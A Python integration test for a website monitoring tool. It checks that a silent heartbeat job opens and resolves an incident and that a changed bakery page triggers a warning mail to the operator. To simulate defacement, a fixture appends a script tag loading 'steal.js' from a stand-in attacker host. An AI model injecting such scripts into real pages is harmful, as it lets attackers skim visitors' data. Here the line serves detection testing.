"""What one `quivive up` watches beside outages: jobs that call it, and pages that are no longer what they were."""

from typing import Any

import httpx
import pytest
from farm import Crowd, LocalSites
from receivers import MailSink
from running import Quivive, wait_for

from quivive.domain.words import State

REGIONS = ("ap-south", "eu-west", "us-east")
PAGE = (
    "<!doctype html><title>Boulangerie Martin</title><h1>Du pain</h1>"
    + "<p>Du pain frais chaque matin, sauf le lundi.</p>" * 9
)
DEFACED = PAGE + "<script src='https://evil.example/steal.js'></script>"


def configuration_of(crowd: Crowd) -> str:
    return f"""
customers:
  - {{id: martin, name: Boulangerie Martin, plan: premium}}
channels:
  - {{id: on-call, type: email, to: [on-call@agency.example], audience: [incidents]}}
  - {{id: operator, type: email, to: [operator@agency.example], audience: [operations]}}
sites:
  - id: bakery
    customer: martin
    url: '{crowd.url("bakery")}'
    interval: 2s
    timeout: 1s
    checks:
      - {{name: backup, heartbeat: {{period: 4s, grace: 2s}}}}
"""


def mails(mail: MailSink, recipient: str, *words: str) -> list[str]:
    return [
        found.subject
        for found in list(mail.mails)
        if f"{recipient}@agency.example" in found.recipients and all(word in found.text for word in words)
    ]


def rows(quivive: Quivive, query: str) -> list[tuple[Any, ...]]:
    with quivive.database() as connection:
        return connection.execute(query).fetchall()  # type: ignore[arg-type]


@pytest.mark.timeout(240)
def test_a_job_that_falls_silent_is_an_incident_and_a_page_that_drifts_a_warning(
    quivive: Quivive, sites: LocalSites, mail_sink: MailSink
) -> None:
    crowd = Crowd(sites)
    crowd.pages["bakery"] = PAGE
    quivive.start("--regions", ",".join(REGIONS), configuration=configuration_of(crowd))

    # The job calls, falls silent, and comes back.
    (site,) = quivive.json("site", "list")
    (url,) = [check["call_url"] for check in site["checks"] if check.get("call_url")]
    call = httpx.URL(url).copy_with(host="127.0.0.1", port=quivive.http_port, scheme="http")
    wait_for(lambda: httpx.get(call, trust_env=False).status_code == 200, "the job's call taken")
    incident = wait_for(lambda: _incident(quivive, "OPEN"), "the silence an incident", 60)
    assert incident["cause"] == "HEARTBEAT_SILENT"
    assert incident["site"] == "sites/bakery"
    wait_for(lambda: mails(mail_sink, "on-call"), "a mail about the job", 20)
    assert httpx.get(call, trust_env=False).status_code == 200
    resolved = wait_for(lambda: _incident(quivive, "RESOLVED"), "its return the end of it", 30)
    assert resolved["name"] == incident["name"]

    # The page is learned, and drifts. Each region reads a whole page every five minutes; one that has just begun, at once.
    wait_for(lambda: _sightings(quivive) >= len(REGIONS), "the page seen by every region", 30)
    _begin_anew(quivive)
    wait_for(lambda: rows(quivive, "SELECT 1 FROM quivive.page_baselines"), "the page known", 60)
    assert mails(mail_sink, "operator", "evil.example") == []
    crowd.pages["bakery"] = DEFACED
    _begin_anew(quivive)
    wait_for(lambda: mails(mail_sink, "operator", "evil.example"), "a warning to the operator", 60)
    assert mails(mail_sink, "on-call", "evil.example") == []
    assert {one["cause"] for one in quivive.json("incident", "list")} == {"HEARTBEAT_SILENT"}
    page_states = rows(
        quivive,
        "SELECT DISTINCT state FROM quivive.state_intervals JOIN quivive.checks USING (check_id) WHERE type = 'http'",
    )
    assert {state for (state,) in page_states} <= {State.UP, State.UNKNOWN}


def _incident(quivive: Quivive, state: str) -> dict[str, Any] | None:
    """The first incident, once it is in that state."""
    incidents: list[dict[str, Any]] = quivive.json("incident", "list")
    return incidents[-1] if incidents and incidents[-1]["state"] == state else None


def _sightings(quivive: Quivive) -> int:
    return int(rows(quivive, "SELECT count(DISTINCT region) FROM quivive.page_sightings")[0][0])


def _begin_anew(quivive: Quivive) -> None:
    """Every agent forgets when it looked at the whole page."""
    for region in REGIONS:
        quivive.kill_process(f"agent-{region}")
